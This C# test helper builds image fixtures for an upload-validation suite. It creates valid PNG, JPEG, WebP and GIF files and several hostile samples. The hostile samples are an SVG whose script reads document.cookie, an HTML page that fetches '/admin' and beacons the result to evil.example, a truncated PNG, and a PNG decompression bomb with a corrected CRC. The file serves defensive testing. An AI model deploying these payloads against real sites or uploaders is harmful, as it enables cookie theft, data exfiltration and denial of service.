using System.Buffers.Binary;
using System.Text;
using SixLabors.ImageSharp;
using SixLabors.ImageSharp.Formats.Gif;
using SixLabors.ImageSharp.Formats.Webp;
using SixLabors.ImageSharp.PixelFormats;

namespace ShopAffiliate.Web.Tests.Creatives;

/// <summary>Real files made in the test with ImageSharp's encoders, and hostile ones made by hand.</summary>
public static class TestImages
{
    public static byte[] Png(int width, int height) => Encode(width, height, (image, s) => image.SaveAsPng(s));

    public static byte[] Jpeg(int width, int height) => Encode(width, height, (image, s) => image.SaveAsJpeg(s));

    public static byte[] Webp(int width, int height) => Encode(width, height, (image, s) => image.Save(s, new WebpEncoder()));

    /// <summary>An animated GIF: each frame a different colour.</summary>
    public static byte[] Gif(int width, int height, int frames)
    {
        using var image = new Image<Rgba32>(width, height, new Rgba32(255, 0, 0));
        for (var i = 1; i < frames; i++)
        {
            using var frame = new Image<Rgba32>(width, height, new Rgba32((byte)(i * 37), (byte)(i * 91), 40));
            image.Frames.AddFrame(frame.Frames.RootFrame);
        }
        using var stream = new MemoryStream();
        image.Save(stream, new GifEncoder());
        return stream.ToArray();
    }

    /// <summary>Noise, so the compressed data is long enough to cut in half meaningfully.</summary>
    private static byte[] Encode(int width, int height, Action<Image<Rgba32>, Stream> save)
    {
        using var image = new Image<Rgba32>(width, height);
        var random = new Random(width * 31 + height);
        for (var y = 0; y < height; y++)
        for (var x = 0; x < width; x++)
            image[x, y] = new Rgba32((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256));
        using var stream = new MemoryStream();
        save(image, stream);
        return stream.ToArray();
    }

    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" height="250"><script>alert(document.cookie)</script><rect width="300" height="250"/></svg>""");

    public static byte[] Html() => Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><body><script>fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script></body></html>");

    /// <summary>A valid PNG's first half: its end (IEND) and most of its data are missing.</summary>
    public static byte[] TruncatedPng() => Png(64, 64)[..2000];

    /// <summary>
    /// A decompression bomb: a PNG header declaring <paramref name="side"/> x <paramref name="side"/> pixels (gigabytes
    /// once decoded) in a file of about a hundred bytes. The IHDR's CRC is right, so only the size gives it away.
    /// </summary>
    public static byte[] PngBomb(int side)
    {
        var png = Png(1, 1);
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), side);
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(20), side);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), Crc32(png.AsSpan(12, 17)));
        return png;
    }

    private static uint Crc32(ReadOnlySpan<byte> data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
        }
        return ~crc;
    }
}
